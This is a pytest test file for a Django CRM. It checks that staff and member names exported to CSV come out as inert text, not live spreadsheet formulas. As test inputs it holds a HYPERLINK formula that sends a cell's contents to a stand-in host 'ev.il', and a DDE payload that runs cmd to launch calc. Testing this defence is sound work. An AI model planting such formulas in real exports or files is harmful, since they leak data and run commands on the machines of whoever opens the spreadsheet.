"""Formula injection through the member export (issue 21): a store manager names a staff member
`=HYPERLINK(...)` in the staff admin and a member's name is one too; the member CSV that HQ
downloads carries both as inert text, whoever exports (full names or masked ones)."""

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from crm.db import connection
from members.models import Member, Staff
from members.roles import HQ_MARKETER, STORE_MANAGER
from tests.conftest import brand_admin_email, logged_in_client
from tests.factories import MemberFactory

from .conftest import staff_user_create

# Within the 50 characters a staff name may have.
HYPERLINK = '=HYPERLINK("https://ev.il/?"&C2,"查看")'


@pytest.fixture
def renamed_staff(in_brand_a, store_a, staff_a, brand_a):
    """The store manager of store_a renames staff_a through the staff admin, as the probe did."""
    staff_user_create(store=store_a, role=STORE_MANAGER, username="manager@alpha.example")
    manager = logged_in_client("alpha", "manager@alpha.example")
    response = manager.post(
        reverse("admin:members_staff_change", args=[staff_a.pk]),
        {"store": store_a.pk, "name": HYPERLINK, "wecom_userid": staff_a.wecom_userid},
    )
    assert response.status_code == 302
    connection.set_tenant(brand_a)
    assert Staff.objects.get(pk=staff_a.pk).name == HYPERLINK
    return staff_a


@pytest.mark.parametrize("exporter", ["brand_admin", "hq_marketer"])
def test_formulas_in_member_and_staff_names_come_out_of_the_member_csv_inert(renamed_staff, store_a, brand_a, exporter):
    member = MemberFactory(home_store=store_a, assigned_staff=renamed_staff, name="@SUM(1+9)*cmd|' /C calc'!A0")
    if exporter == "hq_marketer":
        staff_user_create(store=None, role=HQ_MARKETER, username="hq@alpha.example")
        client = logged_in_client("alpha", "hq@alpha.example")
    else:
        client = logged_in_client("alpha", brand_admin_email("alpha"))

    response = client.post(
        reverse("admin:members_member_changelist"), {"action": "export_csv", ACTION_CHECKBOX_NAME: [member.pk]}
    )

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    # Full for the brand admin, masked ("@*****") for HQ: a leading @ either way, and inert.
    assert cells["姓名"].startswith("'@")
    assert cells["专属导购"] == "'" + HYPERLINK
    assert cells["会员号"] == member.member_no and cells["可用积分"] == "0"
    connection.set_tenant(brand_a)
    assert Member.objects.get(pk=member.pk).assigned_staff_id == renamed_staff.pk
